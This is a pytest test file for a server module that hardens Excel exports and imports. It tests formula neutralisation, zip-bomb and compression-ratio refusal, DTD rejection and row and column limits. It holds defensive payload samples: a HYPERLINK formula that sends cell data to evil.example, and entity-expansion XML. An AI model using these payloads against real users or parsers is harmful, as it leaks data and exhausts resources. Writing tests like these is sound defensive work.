"""The one Excel module against hostile content: exports write text as text with formula starts
neutralised and unwritable characters replaced; imports refuse a workbook that unpacks too large,
compresses absurdly well, has too many parts or a DTD, read at most MAX_COLUMNS wide and stop at
their deadline; both build and parse off the event loop."""

from __future__ import annotations

import io
import random
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.reader.excel import ExcelReader

from server.core import xlsx
from server.core.errors import BusinessError
from tests.api_helpers import CJK
from tests.xlsx_helpers import Gate, handmade_xlsx, sheet_xml, zip_bomb

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# (written, what the cell holds)
TEXTS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\r=1+1", "'\n=1+1"),  # XML reads a CR back as LF
    ("=", "'="),
    ("#N/A", "#N/A"),  # an error code as text, not an error cell
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("'=1", "''=1"),  # one more, so that reading it strips exactly one
    ("'s", "''s"),
    ("iPhone 15 屏幕", "iPhone 15 屏幕"),
    ("", None),
]


def cells_of(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def refusal(data: bytes, code: str, **kwargs) -> str:
    with pytest.raises(BusinessError) as info:
        xlsx.parse_rows(data, kwargs.get("max_rows", 100), xlsx.MAX_COLUMNS, kwargs.get("seconds", 60))
    assert info.value.status_code == 400
    assert info.value.code == code, (info.value.code, info.value.detail)
    assert CJK.search(info.value.detail)
    return info.value.detail


def test_text_is_written_as_text_with_formula_starts_neutralised():
    rows = [[written, 7, Decimal("12.5000"), None] for written, _ in TEXTS]
    data = xlsx.workbook_bytes("货品", ["=名称", "数量", "金额", "空"], rows)
    cells = cells_of(data)
    assert [c.value for c in cells[0]] == ["'=名称", "数量", "金额", "空"]
    assert [c.data_type for c in cells[0]] == ["s"] * 4
    assert all(c.font.bold for c in cells[0])
    assert not any(c.data_type in ("f", "e") for row in cells for c in row)
    for (written, held), row in zip(TEXTS, cells[1:], strict=True):
        assert row[0].value == held, written
        if held is not None:
            assert row[0].data_type == "s", written
        # numbers stay numbers
        assert (row[1].value, row[1].data_type) == (7, "n")
        assert (row[2].value, row[2].data_type) == (12.5, "n")
        assert row[3].value is None


def test_characters_xml_cannot_hold_become_replacement_characters():
    """A stored "\\x08" must not make the export fail (openpyxl raises IllegalCharacterError)."""
    data = xlsx.workbook_bytes("表\x07", ["名\x00称"], [["a\x08b"], ["\x1b=1"], ["\x0c\x0b"], ["tab\tlf\ncr\r"]])
    assert [[c.value for c in row] for row in cells_of(data)] == [
        ["名\ufffd称"],
        ["a\ufffdb"],
        ["\ufffd=1"],  # no longer starts with "=": nothing to neutralise
        ["\ufffd\ufffd"],
        ["tab\tlf\ncr\n"],  # tab, LF and CR are legal in a cell (XML reads a CR back as LF)
    ]


async def test_an_export_reads_back_as_it_was_written():
    rows = [[written, i] for i, (written, _) in enumerate(TEXTS) if written.strip()]
    data = xlsx.workbook_bytes("货品", ["名称", "序号"], rows)
    read = await xlsx.read_rows(data, max_rows=100)
    assert read[0] == (1, ("名称", "序号", *[None] * (xlsx.MAX_COLUMNS - 2)))
    assert [(number, values[:2]) for number, values in read[1:]] == [
        (n, (text.replace("\r", "\n"), i)) for n, (text, i) in enumerate(rows, start=2)
    ]


async def test_exports_are_built_and_imports_parsed_off_the_event_loop(monkeypatch):
    built, parsed = Gate(monkeypatch, Workbook, "save"), Gate(monkeypatch, ExcelReader, "read")
    built.release(), parsed.release()
    response = await xlsx.xlsx_response("货品.xlsx", "货品", ["名称"], iter([["x"]]))
    rows = await xlsx.read_rows(response.content, max_rows=10)
    assert built.on_loop == [False] and parsed.on_loop == [False]
    assert [values[0] for _, values in rows] == ["名称", "x"]


def test_the_audit_s_zip_bomb_is_refused_before_it_is_inflated(monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("openpyxl was given the bomb")

    monkeypatch.setattr(ExcelReader, "read", never)
    bomb = zip_bomb()
    assert len(bomb) < 1_000_000
    detail = refusal(bomb, "file_too_large_unpacked")
    assert detail == "文件解压后过大（超过 100 MB），请拆分后再导入"


def _stored(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return buf.getvalue()


def test_archives_beyond_the_limits_are_refused(monkeypatch):
    ok = handmade_xlsx(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), ["名称"])
    assert xlsx.parse_rows(ok, 10, 5, 60) == [(1, ("名称", None, None, None, None))]
    # not a zip at all, or a broken one
    assert "有效的 Excel" in refusal(b"not a spreadsheet", "invalid_file")
    refusal(b"PK\x03\x04broken zip", "invalid_file")
    refusal(ok[: len(ok) // 2], "invalid_file")
    # too many parts
    many = _stored({f"xl/media/{i}.txt": b"" for i in range(xlsx.MAX_MEMBERS + 1)})
    assert "部件过多" in refusal(many, "file_too_large_unpacked")
    # an absurd compression ratio, even well under the size limits (2 MB of zeros: ~1000 times)
    zeros = handmade_xlsx(sheet_xml(""), extra={"xl/pad.bin": bytes(2_000_000)})
    assert "压缩比异常" in refusal(zeros, "file_too_large_unpacked")
    # too large in total, each member being acceptable (sizes scaled down for speed)
    monkeypatch.setattr(xlsx, "MAX_UNPACKED_BYTES", 3_000_000)
    noise = random.Random(7).randbytes(1_000_000)  # 1 MB that does not compress
    assert xlsx.parse_rows(handmade_xlsx(sheet_xml(""), extra={"a.bin": noise, "b.bin": noise}), 10, 5, 60) == []
    three = {"a.bin": noise, "b.bin": noise, "c.bin": noise}
    assert "超过 3 MB" in refusal(handmade_xlsx(sheet_xml(""), extra=three), "file_too_large_unpacked")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_with_a_dtd_is_refused(encoding):
    """Entity expansion needs a DTD; no spreadsheet application writes one."""
    laughs = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
        '<!DOCTYPE sst [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&b;</t></si></sst>'
    )
    data = handmade_xlsx(
        sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
        extra={"xl/sharedStrings.xml": laughs.encode(encoding)},
    )
    assert "DTD" in refusal(data, "invalid_file")


def test_a_sheet_is_read_narrow_whatever_width_and_height_it_claims():
    """openpyxl pads every row to the claimed <dimension> and yields every row up to its end:
    A1:XFD1048576 would be 16,384 columns by a million rows for a file of a few hundred bytes."""
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c>'
        '<c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
        '<row r="3"><c r="B3"><v>5</v></c></row>'
    )
    data = handmade_xlsx(sheet_xml(rows, dimension="A1:XFD1048576"))
    read = xlsx.parse_rows(data, 10, xlsx.MAX_COLUMNS, 60)
    assert [(n, len(values)) for n, values in read] == [(1, xlsx.MAX_COLUMNS), (3, xlsx.MAX_COLUMNS)]
    assert read[0][1][0] == "名称" and read[1][1][:2] == (None, 5)


def test_rows_beyond_the_limit_or_the_deadline_are_refused():
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in (1, 2, 4, 5))
    data = handmade_xlsx(sheet_xml(rows + '<row r="6"><c r="A6" t="inlineStr"><is><t>  </t></is></c></row>'))
    # blank rows (none in the XML, or only spaces) are neither returned nor counted
    assert [n for n, _ in xlsx.parse_rows(data, 3, 5, 60)] == [1, 2, 4, 5]
    assert refusal(data, "too_many", max_rows=2) == "一次最多导入 2 行"
    # a parse that is past its deadline stops (and says so) instead of reading on
    assert "请拆分后再导入" in refusal(data, "import_timeout", seconds=0)
